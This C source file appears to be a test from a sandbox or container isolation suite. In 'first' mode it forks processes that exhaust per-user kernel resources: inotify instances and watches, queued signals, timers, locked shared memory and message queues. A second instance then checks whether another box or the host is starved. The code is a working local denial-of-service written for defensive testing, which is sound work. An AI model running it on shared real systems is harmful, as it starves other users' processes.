/*
 * attack_starve.c - uses up what the kernel counts by user, so that whoever has
 * the same user number has none left: inotify's instances and watches, signals
 * that wait, timers, memory locked by shared segments, bytes of message queues. "first" takes all
 * that is to be had, says so and keeps it for a while; "second", in another box or on the host,
 * needs a little of each.
 */
#include <mqueue.h>
#include <sys/inotify.h>
#include <sys/ipc.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <time.h>

#include "attack.h"

enum { PROCESSES = 6, MANY = 300000, LITTLE = 4, SEGMENT = 64 << 10, KEEP_MS = 4000 };

/* --- each kind; how many were to be had ---------------------------------------- */

static long take_instances(long most)
{
	long taken = 0;

	while (taken < most && inotify_init1(0) >= 0)
		taken++;
	return taken;
}

static long take_watches(long most)
{
	char path[64];
	int fd = inotify_init1(0);
	long taken = 0;

	for (; fd >= 0 && taken < most; taken++) {
		(void)snprintf(path, sizeof(path), "starve-%d-%ld", (int)getpid(), taken);
		if (mkdir(path, 0700) < 0 || inotify_add_watch(fd, path, IN_ALL_EVENTS) < 0)
			break;
	}
	return taken;
}

static long take_signals(long most)
{
	const union sigval value = {.sival_int = 0};
	long taken = 0;

	while (taken < most && sigqueue(getpid(), SIGRTMIN + 1, value) == 0)
		taken++;
	return taken;
}

static long take_timers(long most)
{
	struct sigevent event = {.sigev_notify = SIGEV_NONE};
	long taken = 0;
	timer_t id;

	while (taken < most && timer_create(CLOCK_MONOTONIC, &event, &id) == 0)
		taken++;
	return taken;
}

/* Those of the host would outlive this process. */
static long take_locked(long most)
{
	int ids[LITTLE];
	long taken = 0;

	for (; taken < most; taken++) {
		int id = shmget(IPC_PRIVATE, SEGMENT, IPC_CREAT | 0600);
		int locked = id < 0 ? -1 : shmctl(id, SHM_LOCK, NULL);

		if (id >= 0 && locked < 0)
			(void)shmctl(id, IPC_RMID, NULL);
		if (locked < 0)
			break;
		if (most == LITTLE)
			ids[taken] = id;
	}
	for (long i = 0; most == LITTLE && i < taken; i++)
		(void)shmctl(ids[i], IPC_RMID, NULL);
	return taken;
}

/* One is as much as a box can do with. */
static long take_queues(long most)
{
	char name[64];
	long taken = 0;

	for (; taken < most; taken++) {
		(void)snprintf(name, sizeof(name), "/starve-%d-%ld", (int)getpid(), taken);
		if (mq_open(name, O_CREAT | O_RDWR, 0600, NULL) == (mqd_t)-1)
			break;
		if (most == 1) /* on the host it would outlive this process */
			(void)mq_unlink(name);
	}
	return taken;
}

static const struct {
	const char *name;
	long (*take)(long most);
	long most; /* of one process */
	long least;
} kinds[] = {
	{"inotify instances", take_instances, 100, LITTLE},
	{"inotify watches", take_watches, 2000, LITTLE},
	{"signals that wait", take_signals, MANY, LITTLE},
	{"timers", take_timers, MANY, LITTLE},
	{"locked segments", take_locked, 2000, LITTLE},
	{"message queues", take_queues, 100, 1},
};

enum { KINDS = sizeof(kinds) / sizeof(kinds[0]) };

/* --- the two --------------------------------------------------------------------- */

static void block_signals(void)
{
	sigset_t all;

	(void)sigfillset(&all);
	(void)sigprocmask(SIG_BLOCK, &all, NULL);
}

/* Each process has descriptors of its own; it keeps what it has until it is killed. */
static pid_t take_in_child(void)
{
	char byte = 0;
	int ends[2];
	pid_t pid;

	if (pipe(ends) < 0)
		_exit(1);
	pid = fork();
	if (pid == 0) {
		for (int i = 0; i < KINDS; i++)
			(void)kinds[i].take(kinds[i].most);
		if (write(ends[1], &byte, 1) != 1)
			_exit(1);
		for (;;)
			(void)pause();
	}
	if (pid < 0 || read(ends[0], &byte, 1) != 1)
		_exit(1);
	(void)close(ends[0]);
	(void)close(ends[1]);
	return pid;
}

static void take_all(void)
{
	pid_t children[PROCESSES];

	for (int i = 0; i < PROCESSES; i++)
		children[i] = take_in_child();
	(void)puts("ready");
	(void)fflush(stdout);
	pause_ms(KEEP_MS);
	for (int i = 0; i < PROCESSES; i++)
		(void)kill(children[i], SIGKILL);
}

int main(int argc, char **argv)
{
	block_signals();
	if (argc > 1 && strcmp(argv[1], "first") == 0) {
		take_all();
		contained();
	}
	for (int i = 0; i < KINDS; i++) {
		long had = kinds[i].take(kinds[i].least);

		if (had < kinds[i].least)
			escaped("only %ld %s were left", had, kinds[i].name);
	}
	contained();
}
